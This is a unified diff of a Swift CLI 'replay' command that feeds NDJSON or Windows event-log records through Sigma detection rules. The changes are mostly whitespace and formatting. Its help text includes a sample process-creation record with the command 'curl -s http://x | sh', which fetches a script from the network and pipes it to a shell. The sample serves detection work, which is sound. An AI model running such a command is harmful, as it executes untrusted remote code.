@@ -11,20 +11,20 @@ struct ReplayCommand: ParsableCommand {
         commandName: "replay",
         abstract: "Run NDJSON event records through Sigma rules and print alerts (ECS NDJSON or text).",
         discussion: """
-        Each input line is one record, either the agent's own shape:
-          {"@timestamp":"2025-01-02T03:04:05Z","logsource":{"product":"linux","category":"process_creation"},
-           "event":{"Image":"/usr/bin/curl","CommandLine":"curl -s http://x | sh"}}
-        `service` may stand beside or instead of `category`; event values are strings, numbers,
-        booleans, null or arrays (nested objects are flattened to dotted names). A malformed line is
-        reported on standard error with its line number and skipped; the exit status is then 1.
-        A linux process_creation record also gives the auditd records (EXECVE, SYSCALL, PATH, CWD,
-        PROCTITLE) the agent builds from each exec, for `service: auditd` rules.
-        Or a Windows event log record as exporters write it (docs/windows.md):
-          {"System":{"Provider":{"Name":"Microsoft-Windows-Sysmon"},"EventID":1,
-           "Channel":"Microsoft-Windows-Sysmon/Operational"},"EventData":{"Image":"C:\\\\x.exe"}}
-        also wrapped in {"Event":{…}}; Sysmon, Security 4688 and PowerShell 4104 get SigmaHQ's
-        categories, every channel its `service`.
-        """)
+            Each input line is one record, either the agent's own shape:
+              {"@timestamp":"2025-01-02T03:04:05Z","logsource":{"product":"linux","category":"process_creation"},
+               "event":{"Image":"/usr/bin/curl","CommandLine":"curl -s http://x | sh"}}
+            `service` may stand beside or instead of `category`; event values are strings, numbers,
+            booleans, null or arrays (nested objects are flattened to dotted names). A malformed line is
+            reported on standard error with its line number and skipped; the exit status is then 1.
+            A linux process_creation record also gives the auditd records (EXECVE, SYSCALL, PATH, CWD,
+            PROCTITLE) the agent builds from each exec, for `service: auditd` rules.
+            Or a Windows event log record as exporters write it (docs/windows.md):
+              {"System":{"Provider":{"Name":"Microsoft-Windows-Sysmon"},"EventID":1,
+               "Channel":"Microsoft-Windows-Sysmon/Operational"},"EventData":{"Image":"C:\\\\x.exe"}}
+            also wrapped in {"Event":{…}}; Sysmon, Security 4688 and PowerShell 4104 get SigmaHQ's
+            categories, every channel its `service`.
+            """)
 
     enum MatchMode: String, ExpressibleByArgument, CaseIterable { case all, best }
     enum Format: String, ExpressibleByArgument, CaseIterable { case ecs, text }
@@ -56,7 +56,9 @@ struct ReplayCommand: ParsableCommand {
             }
         }
         let handle: FileHandle
-        if input == "-" { handle = .standardInput } else {
+        if input == "-" {
+            handle = .standardInput
+        } else {
             guard let h = FileHandle(forReadingAtPath: input) else { throw ValidationError("cannot open \(input)") }
             handle = h
         }
@@ -110,4 +112,3 @@ struct ReplayCommand: ParsableCommand {
         if malformed > 0 { throw ExitCode(1) }
     }
 }
-
